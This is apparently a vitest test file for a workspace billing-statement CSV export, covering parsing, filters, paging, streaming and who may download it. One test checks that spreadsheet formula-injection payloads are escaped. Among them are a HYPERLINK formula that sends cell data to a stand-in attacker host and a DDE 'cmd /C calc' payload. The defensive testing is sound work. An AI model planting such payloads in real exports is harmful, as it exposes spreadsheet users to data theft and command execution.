import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { formatPt } from "../../kernel/money.ts";
import { type TestApp, testApp } from "../../testing/app.ts";
import { freshWorkspaces } from "../../testing/fresh-workspaces.ts";
import { newMember, newWorkspace, type TestWorkspace } from "../../testing/people.ts";
import { signIn } from "../../testing/signed-in.ts";
import { exportStatement } from "./export-statement.ts";
import { fund } from "./testing/fund.ts";
import { spend, wholeStatement } from "./testing/statement.ts";

let app: TestApp;
const freshWorkspace = freshWorkspaces();
let noted: TestWorkspace;
beforeAll(async () => {
  app = await testApp({ env: { STARTING_GRANT_PT: "0" } });
  noted = await freshWorkspace(app.kernel);
});
afterAll(() => app.close());

const HEADER = [
  "time",
  "what",
  "subject",
  "by",
  "model",
  "input_tokens",
  "output_tokens",
  "amount_pt",
  "balance_pt",
  "id",
];

/** Reads RFC 4180 strictly: CRLF between records, quotes doubled inside quotes, nothing else. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let at = 0;
  while (at < text.length) {
    const record: string[] = [];
    for (;;) {
      const match = /"((?:[^"]|"")*)"|([^",\r\n]*)/y;
      match.lastIndex = at;
      const found = match.exec(text);
      record.push(found?.[1]?.replaceAll('""', '"') ?? found?.[2] ?? "");
      at += found?.[0].length ?? 0;
      if (text[at] !== ",") break;
      at += 1;
    }
    expect(text.slice(at, at + 2)).toBe("\r\n");
    at += 2;
    records.push(record);
  }
  return records;
}

async function csvOf(
  workspace: TestWorkspace,
  filter: Partial<Parameters<typeof exportStatement>[1]> = {},
): Promise<string[]> {
  const pieces: string[] = [];
  for await (const piece of exportStatement(workspace.ctx, { includeHolds: false, ...filter }))
    pieces.push(piece);
  return pieces;
}

async function recordsOf(workspace: TestWorkspace, filter?: Partial<Parameters<typeof exportStatement>[1]>) {
  const [header, ...records] = parseCsv((await csvOf(workspace, filter)).join(""));
  expect(header).toEqual(HEADER);
  return records;
}

describe("the statement as CSV", () => {
  it("says what the API says, entry for entry, under the same filter", async () => {
    const workspace = await freshWorkspace(app.kernel);
    const member = await newMember(workspace, "member", "Zoë Ångström");
    await fund(app.kernel, workspace.id, 10_000_000n, { note: "Invoice 7, second part" });
    await spend(workspace.ctx, 1n);
    await spend(member.inside, 1_234_567n, { model: "acme/large" });
    for (const filter of [
      {},
      { includeHolds: true },
      { userId: member.id },
      { kind: "grant" as const },
      { model: "acme/large" },
    ]) {
      const entries = await wholeStatement(workspace.ctx, filter);
      expect(entries.length).toBeGreaterThan(0);
      expect(await recordsOf(workspace, filter)).toEqual(
        entries.map((entry) => [
          entry.at,
          entry.what,
          entry.subject ?? "",
          entry.by.name,
          entry.model ?? "",
          String(entry.inputTokens ?? ""),
          String(entry.outputTokens ?? ""),
          formatPt(BigInt(entry.amountMicroPt)),
          formatPt(BigInt(entry.balanceMicroPt)),
          entry.id,
        ]),
      );
    }
  });

  it.each([
    ['Say "hello", twice', 'Say "hello", twice'],
    ["two\r\nlines", "two\r\nlines"],
    ['"', '"'],
    ["a,b;c\td", "a,b;c\td"],
    ["=1+1", "'=1+1"],
    ['=HYPERLINK("https://evil.example?"&A1,"x")', '\'=HYPERLINK("https://evil.example?"&A1,"x")'],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\t=1+1", "'\t=1+1"],
    ["\n=1+1", "'\n=1+1"],
    ["＝1+1", "'＝1+1"],
    ["-12.5", "-12.5"],
    ["plain", "plain"],
  ])("carries %j as a text that no spreadsheet runs", async (note, cell) => {
    await fund(app.kernel, noted.id, 1n, { note });
    expect((await recordsOf(noted))[0]?.[2]).toBe(cell);
  });

  it("keeps amounts below zero as numbers", async () => {
    const workspace = await freshWorkspace(app.kernel);
    await fund(app.kernel, workspace.id, 5_000_000n);
    await spend(workspace.ctx, 1_500_000n);
    expect((await recordsOf(workspace))[0]?.slice(7, 9)).toEqual(["-1.5", "3.5"]);
  });

  it("of an empty statement is its header", async () => {
    expect(await csvOf(await freshWorkspace(app.kernel))).toEqual([`${HEADER.join(",")}\r\n`]);
  });

  it("of thousands of entries comes page by page, whole and in order, and is read no further than somebody wants", async () => {
    const workspace = await freshWorkspace(app.kernel);
    await fund(app.kernel, workspace.id, 1_000_000n);
    await Promise.all(Array.from({ length: 1_200 }, () => spend(workspace.ctx, 10n)));
    const pieces = await csvOf(workspace, { includeHolds: true });
    expect(pieces.map((piece) => piece.split("\r\n").length - 1)).toEqual([1, 1_000, 1_000, 401]);
    const records = parseCsv(pieces.join("")).slice(1);
    expect(new Set(records.map((record) => record.at(-1))).size).toBe(2_401);
    expect(records.at(0)?.[8]).toBe(formatPt(1_000_000n - 12_000n));
    expect(records.at(-1)?.slice(7, 9)).toEqual(["1", "1"]);

    const reading = exportStatement(workspace.ctx, { includeHolds: true });
    await reading.next();
    await reading.next();
    await reading.return(undefined);
    expect(await reading.next()).toEqual({ done: true, value: undefined });
    // The connection of the page that was read is back: nothing waits for a reader who left.
    expect(app.kernel.db.pool.idleCount).toBe(app.kernel.db.pool.totalCount);
  });

  it("goes on where it was while postings arrive", async () => {
    const workspace = await freshWorkspace(app.kernel);
    await fund(app.kernel, workspace.id, 1_000_000n);
    await Promise.all(Array.from({ length: 600 }, () => spend(workspace.ctx, 10n)));
    const before = await wholeStatement(workspace.ctx, { includeHolds: true, limit: 100 });
    let text = "";
    for await (const piece of exportStatement(workspace.ctx, { includeHolds: true })) {
      text += piece;
      if (!text.endsWith(`${HEADER.at(-1)}\r\n`)) await spend(workspace.ctx, 1n);
    }
    expect(
      parseCsv(text)
        .slice(1)
        .map((record) => record.at(-1)),
    ).toEqual(before.map((entry) => entry.id));
  });
});

describe("who may download it", () => {
  it("is an owner or admin of the workspace, by a file's name; not a viewer, not a stranger, nobody signed out", async () => {
    const workspace = await freshWorkspace(app.kernel);
    await fund(app.kernel, workspace.id, 1n, { note: "only ours" });
    const url = `/api/workspaces/${workspace.id}/statement.csv`;
    const stranger = await newWorkspace(app.kernel);
    const statuses: Record<string, number> = {};
    const people = {
      owner: workspace.owner,
      admin: await newMember(workspace, "admin"),
      viewer: await newMember(workspace, "viewer"),
      stranger: stranger.owner,
    };
    for (const [who, person] of Object.entries(people)) {
      const answer = await app.http.inject({ url, headers: await signIn(app.http, person) });
      statuses[who] = answer.statusCode;
      expect(answer.body.includes("only ours")).toBe(answer.statusCode === 200);
      if (answer.statusCode === 200) {
        expect(answer.headers).toMatchObject({
          "content-type": "text/csv; charset=utf-8",
          "content-disposition": 'attachment; filename="statement.csv"',
          "cache-control": "no-store",
        });
      }
    }
    expect(statuses).toEqual({ owner: 200, admin: 200, viewer: 403, stranger: 404 });
    expect((await app.http.inject(url)).statusCode).toBe(401);
  });

  it("is told before the first line, not in the middle of a file", async () => {
    const workspace = await freshWorkspace(app.kernel);
    const { inside } = await newMember(workspace, "viewer");
    await expect(exportStatement(inside, { includeHolds: false }).next()).rejects.toMatchObject({
      code: "forbidden",
    });
  });
});
